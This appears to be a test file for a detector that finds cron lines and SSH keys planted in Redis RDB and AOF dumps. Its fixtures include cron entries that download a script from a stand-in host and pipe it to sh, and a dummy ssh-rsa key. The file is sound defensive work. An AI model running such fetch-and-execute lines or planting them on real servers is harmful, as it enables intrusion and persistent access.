import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { assertGrowsLinearly } from '../../../test/growth.ts'
import { packedRdb, redisAof } from '../../../test/redis-samples.ts'
import { bytesOf, concat } from '../../core/bytes.ts'
import { plantedIn, redisFormat } from './redis-planted.ts'

const wget = '*/3 * * * * root wget -q -O- http://192.0.2.7/init.sh | sh'
const rsa = `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ${'A'.repeat(60)} redis@io`

test('lines in plain and in compressed strings of an RDB, and nothing of its ordinary values', () => {
  assert.deepEqual(
    [...plantedIn(packedRdb)].map(p => [p.text, p.when, p.first !== undefined]),
    [
      ['*/2 * * * * root cd1 -fsSL http://192.0.2.7/init.sh | sh', '*/2 * * * *', true],
      [wget, '*/3 * * * *', true],
      [wget, '*/3 * * * *', false],
    ],
  )
})

test('in an AOF only what stands between newlines within a value', () => {
  assert.deepEqual(
    [...plantedIn(redisAof)].map(p => p.command),
    ['x/y'],
  )
})

test('keys, and near misses', () => {
  const of = (line: string) => [...plantedIn(bytesOf(`REDIS0009\0x\n\n${line}\n\n`))].map(p => p.what)
  assert.deepEqual(of(rsa), ['key'])
  for (const line of ['1 2 3 4 5 six', '* * * * * 17', '# * * * * * x', 'ssh-rsa but no key', 'some text'])
    assert.deepEqual(of(line), [], line)
})

test('formats', () => {
  assert.deepEqual([packedRdb, redisAof, bytesOf('# cron'), bytesOf('REDIS is a store')].map(redisFormat), [
    'rdb',
    'aof',
    undefined,
    undefined,
  ])
})

test('a hostile file takes as long as it is', () => {
  for (const fill of ['\n', '\n* * * * * x'])
    assertGrowsLinearly(size => assert.ok([...plantedIn(bytesOf('REDIS0009'.padEnd(size, fill)))].length < size / 8), 8192, fill)
  const strings = (size: number): Uint8Array => {
    // Every eighth byte claims 16 KiB of compressed text: room for one after all.
    const bytes = new Uint8Array(size + (16 << 10)).fill(0xc3)
    bytes.set(bytesOf('REDIS0009'))
    for (let at = 9; at + 8 < bytes.length; at += 8) bytes.set([0xc3, 0x7f, 0x00, 0x7f, 0xff, 0, 10, 0], at)
    return bytes
  }
  assertGrowsLinearly(size => assert.deepEqual([...plantedIn(strings(size))], []), 1024, 'compressed strings')
})

test('of text that expands without end only 32 MiB are looked at', () => {
  const line = bytesOf('\n* * * * * /x\nz')
  // 62 references of 264 bytes to the byte before.
  const packed = [line.length - 1, ...line, ...Array.from({ length: 62 }, () => [0xe0, 255, 0]).flat()]
  const plain = line.length + 62 * 264
  assert.ok(plain < 1 << 14)
  const string = Uint8Array.of(0xc3, 0x40 | (packed.length >> 8), packed.length & 255, 0x40 | (plain >> 8), plain & 255, ...packed)
  const found = [...plantedIn(concat([bytesOf('REDIS0009'), ...Array.from({ length: 2200 }, () => string)]))]
  const expanded = found.filter(p => p.span.end - p.span.start === packed.length)
  assert.equal(expanded.length, Math.ceil((32 << 20) / plain))
})

test('any bytes: never throws; spans lie within, and the byte to change begins the line', () => {
  const piece = fc.oneof(fc.constantFrom('\n', '\r\n', '* * * * * x', '@daily y', rsa), fc.string({ maxLength: 4 }))
  const text = fc.array(piece, { maxLength: 20 }).map(parts => bytesOf(`REDIS0009${parts.join('')}`))
  const changed = fc.tuple(fc.nat(packedRdb.length - 1), fc.nat(255)).map(([at, byte]) => packedRdb.with(at, byte))
  fc.assert(
    fc.property(fc.oneof(fc.uint8Array(), text, changed), bytes => {
      for (const { span, first, text } of plantedIn(bytes)) {
        assert.ok(span.start >= 0 && span.start < span.end && span.end <= bytes.length)
        if (first !== undefined) assert.equal(bytes[first], text.trimStart().charCodeAt(0))
      }
    }),
  )
})
